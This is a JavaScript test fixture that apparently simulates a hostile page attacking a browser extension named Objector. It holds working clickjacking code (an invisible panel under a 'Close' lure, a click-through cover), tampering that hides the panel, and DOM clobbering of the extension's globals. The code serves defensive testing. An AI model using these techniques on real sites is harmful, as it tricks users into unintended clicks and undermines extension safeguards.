// The attacker's script, as a hostile page would carry it (clickjack.test.mjs inlines it into a copy
// of Meta's notice). It runs in the page's own world and chooses its attack from ?attack=:
//   opacity — page CSS and an inline !important style make Objector's host opacity 0, <html> is
//             made transparent, and a "Close" lure (the page's own popover, shown before Objector's
//             panel) sits under Objector's button;
//   cover   — once Objector's panel shows, the page opens its own top-layer box over it (opaque,
//             pointer-events: none, so a click passes through to Objector's button) and puts it
//             back on top every time Objector's panel raises itself;
//   reveal  — <html> is transparent until the person presses the lure; the press reveals it, so
//             Objector's button is visible only from that instant;
//   tamper  — for 2 s the page closes Objector's popover, moves its host into a hidden box, sets
//             `hidden` and an inline opacity on it, over and over;
//   clobber — elements named like Objector's globals and the extension API's (DOM clobbering:
//             <div id="Objector">, id="browser", …) before Objector starts.
// What it saw is kept in window.__attack for the test.
function attackNow() {
  const attack = new URLSearchParams(location.search).get("attack");
  if (!attack) return;
  const seen = (window.__attack = { attack, hostOpacity: null, hostFound: false, lurePresses: 0, coverRaises: 0 });
  const findHost = () => [...document.documentElement.children].find((e) => e.hasAttribute("popover") && e.localName.includes("-"));
  const css = (text) => {
    const s = document.createElement("style");
    s.textContent = text;
    document.head.append(s);
    return s;
  };
  function lure() {
    const b = document.createElement("button");
    b.textContent = "Close";
    b.setAttribute("popover", "manual");
    b.style.cssText = "position:fixed;inset:auto 0 0 auto;margin:0;width:480px;height:220px;font:700 32px sans-serif;background:#ffd400;border:0";
    b.addEventListener("pointerdown", () => { seen.lurePresses += 1; }, true);
    document.body.append(b);
    b.showPopover();
    return b;
  }
  function whenHost(fn) {
    const now = findHost();
    if (now) return fn(now);
    const mo = new MutationObserver(() => {
      const host = findHost();
      if (host) {
        mo.disconnect();
        fn(host);
      }
    });
    mo.observe(document.documentElement, { childList: true });
  }

  if (attack === "opacity") {
    lure();
    css("html { opacity: 0 !important } html > [popover]:not(button), html > :last-child { opacity: 0 !important }");
    whenHost((host) => {
      seen.hostFound = true;
      host.style.setProperty("opacity", "0", "important");
      seen.hostOpacity = getComputedStyle(host).opacity;
    });
  } else if (attack === "cover") {
    const cover = document.createElement("div");
    cover.setAttribute("popover", "manual");
    cover.textContent = "Loading…";
    cover.style.cssText = "position:fixed;inset:auto 0 0 auto;margin:0;width:520px;height:260px;background:#fff;border:0;pointer-events:none;font:24px sans-serif";
    document.body.append(cover);
    const onTop = () => {
      seen.coverRaises += 1;
      if (cover.matches(":popover-open")) cover.hidePopover();
      cover.showPopover();
    };
    whenHost((host) => {
      seen.hostFound = true;
      host.addEventListener("toggle", (e) => { if (e.newState === "open") onTop(); });
      setTimeout(onTop, 300);
    });
  } else if (attack === "reveal") {
    lure();
    const hide = css("html { opacity: 0 !important }");
    addEventListener("pointerdown", () => hide.remove(), true);
    whenHost(() => { seen.hostFound = true; });
  } else if (attack === "tamper") {
    // For 2 s: close Objector's popover, move its host into a hidden box, mark it hidden, fade it.
    const jail = document.createElement("div");
    jail.style.display = "none";
    document.body.append(jail);
    whenHost((host) => {
      seen.hostFound = true;
      seen.tampers = 0;
      const timer = setInterval(() => {
        seen.tampers += 1;
        if (host.matches(":popover-open")) host.hidePopover();
        jail.append(host);
        host.setAttribute("hidden", "");
        host.style.setProperty("opacity", "0", "important");
      }, 150);
      setTimeout(() => clearInterval(timer), 2000);
    });
  } else if (attack === "clobber") {
    for (const id of ["__objectorContentStarted", "Objector", "browser", "chrome"]) {
      const d = document.createElement("div");
      d.id = id;
      document.body.append(d);
    }
    seen.clobbered = typeof window.__objectorContentStarted === "object" && typeof window.Objector === "object";
  }
}
// The page's body is parsed by then, and Objector (document_idle) has not started yet.
document.addEventListener("DOMContentLoaded", attackNow);
